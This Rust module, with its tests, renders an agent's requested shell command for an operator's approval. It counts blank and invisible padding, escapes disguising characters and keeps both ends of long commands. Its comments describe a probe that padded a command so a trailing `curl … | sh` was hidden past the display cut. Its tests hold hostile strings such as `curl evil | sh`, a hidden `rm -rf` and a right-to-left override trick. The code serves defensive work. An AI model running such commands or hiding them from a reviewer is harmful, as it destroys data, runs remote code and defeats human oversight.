//! A request's command as the operator is shown it.
//!
//! Rules judge the command an execute permission runs, so the operator
//! must be able to read all of it, however the agent shaped it. Surfaces
//! cut long text (a Slack section holds 3,000 characters), and a probe
//! padded a command with spaces so that its end (`; curl … | sh`) fell past
//! the cut. Here runs of blanks and of backticks are written as counts,
//! invisible and control characters as escapes, and a command still too
//! long is shown by its start and its end, saying how much lies between.

use std::fmt::Write as _;

/// The longest run of blank characters ([`is_blank`]: spaces, tabs,
/// newlines, other spaces and empty fillers) shown as it is; a longer run
/// is written as its count (`⟨120 blanks⟩`).
pub const BLANK_RUN: usize = 8;

/// A command made fit to show: [`ShownCommand::start`], then, when
/// `left_out` characters were not shown, [`ShownCommand::end`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ShownCommand {
    /// The command's start (all of it when nothing was left out).
    pub start: String,
    /// Characters of the marked command not shown between start and end.
    pub left_out: usize,
    /// The command's end; empty when nothing was left out.
    pub end: String,
}

/// Whether `command` has more than one line. A shell runs each line as a
/// command of its own, and a one-line title shows the breaks as spaces
/// (`echo note: rm -rf ~/work` read as one harmless `echo`), so such a
/// command is shown apart, its lines kept.
pub fn has_line_break(command: &str) -> bool {
    command.contains([
        '\n', '\r', '\u{b}', '\u{c}', '\u{85}', '\u{2028}', '\u{2029}',
    ])
}

/// An already [`marked`] command past `max` characters cut to its first two
/// thirds of `max` and its last third (whole when it fits).
pub fn cut(text: &str, max: usize) -> ShownCommand {
    let total = text.chars().count();
    if total <= max {
        return ShownCommand {
            start: text.to_owned(),
            left_out: 0,
            end: String::new(),
        };
    }
    let head = max - max / 3;
    let tail = max / 3;
    let start: String = text.chars().take(head).collect();
    let end: String = text.chars().skip(total - tail).collect();
    ShownCommand {
        start,
        left_out: total - head - tail,
        end,
    }
}

/// `command` with runs of more than [`BLANK_RUN`] blank characters, and
/// runs of three or more backticks (which would close a code block), written
/// as counts, and control characters other than newlines, and characters
/// that disguise text ([`super::disguises`]), written as escapes.
pub fn marked(command: &str) -> String {
    let mut out = String::with_capacity(command.len());
    let mut chars = command.chars().peekable();
    while let Some(c) = chars.next() {
        if is_blank(c) || c == '`' {
            let same = |n: &char| if c == '`' { *n == '`' } else { is_blank(*n) };
            let mut run = String::from(c);
            while let Some(n) = chars.next_if(same) {
                run.push(n);
            }
            let count = run.chars().count();
            if c == '`' && count >= 3 {
                let _ = write!(out, "⟨{count} backticks⟩");
            } else if c != '`' && count > BLANK_RUN {
                let _ = write!(out, "⟨{count} blanks⟩");
            } else {
                for c in run.chars() {
                    push_shown(&mut out, c);
                }
            }
        } else {
            push_shown(&mut out, c);
        }
    }
    out
}

/// `c` as shown: control characters (but newlines and tabs) and characters
/// that disguise text written as escapes.
fn push_shown(out: &mut String, c: char) {
    if (c.is_control() && c != '\n' && c != '\t') || super::disguises(c) {
        out.extend(c.escape_unicode());
    } else {
        out.push(c);
    }
}

/// Characters that show as nothing or as blank space: whitespace of every
/// kind (tabs, newlines, no-break and ideographic spaces) and the fillers and
/// joiners that render empty. A probe padded a command past the cut with
/// each of them once spaces were counted.
fn is_blank(c: char) -> bool {
    c.is_whitespace()
        || matches!(
            c,
            '\u{34f}'
                | '\u{115f}'
                | '\u{1160}'
                | '\u{200b}'..='\u{200d}'
                | '\u{2060}'
                | '\u{2800}'
                | '\u{3164}'
                | '\u{fe00}'..='\u{fe0f}'
                | '\u{feff}'
                | '\u{ffa0}'
        )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_command_of_more_than_one_line_is_told() {
        for multi in ["a\nb", "a\r\nb", "a\u{2028}b", "a\u{85}b", "a\u{b}b"] {
            assert!(has_line_break(multi), "{multi:?}");
        }
        assert!(!has_line_break("git status && cargo test"));
    }

    #[test]
    fn padding_is_counted_not_shown() {
        let padded = format!("echo ok{}; curl evil | sh", " ".repeat(500));
        assert_eq!(marked(&padded), "echo ok⟨500 blanks⟩; curl evil | sh");
        // Short runs and newlines stay as they are.
        assert_eq!(marked("a  b\tc\nd"), "a  b\tc\nd");
        assert_eq!(
            marked(&format!("a{}b", " ".repeat(BLANK_RUN))),
            format!("a{}b", " ".repeat(BLANK_RUN))
        );
    }

    #[test]
    fn every_kind_of_blank_padding_is_counted() {
        for pad in [
            '\u{a0}', '\u{2003}', '\u{3000}', '\u{3164}', '\u{2800}', '\u{200d}', '\u{fe0f}', '\n',
        ] {
            let padded = format!("echo hi{}; curl evil | sh", pad.to_string().repeat(3000));
            assert_eq!(
                marked(&padded),
                "echo hi⟨3000 blanks⟩; curl evil | sh",
                "{:?}",
                pad
            );
        }
        // A mixed run is one run.
        assert_eq!(marked("a \n\u{a0} \n\u{3000}\t\n\n b"), "a⟨10 blanks⟩b");
    }

    #[test]
    fn backtick_runs_cannot_close_a_code_block() {
        assert_eq!(marked("echo ```\nx"), "echo ⟨3 backticks⟩\nx");
        assert_eq!(marked("echo `id` ``"), "echo `id` ``");
    }

    #[test]
    fn invisible_and_control_characters_are_escaped() {
        assert_eq!(marked("rm \u{202e}fdp.sh"), "rm \\u{202e}fdp.sh");
        assert_eq!(marked("a\rb\x1b[2J"), "a\\u{d}b\\u{1b}[2J");
    }

    #[test]
    fn a_long_command_keeps_its_start_and_its_end() {
        let long = format!("echo {}; curl evil | sh", "a".repeat(10_000));
        let s = cut(&marked(&long), 300);
        assert!(s.start.starts_with("echo aaa"), "{s:?}");
        assert!(s.end.ends_with("; curl evil | sh"), "{s:?}");
        assert_eq!(s.start.chars().count() + s.end.chars().count(), 300);
        assert_eq!(s.left_out, long.chars().count() - 300);
        let short = cut(&marked("git status"), 300);
        assert_eq!(
            (short.start.as_str(), short.left_out, short.end.as_str()),
            ("git status", 0, "")
        );
    }
}
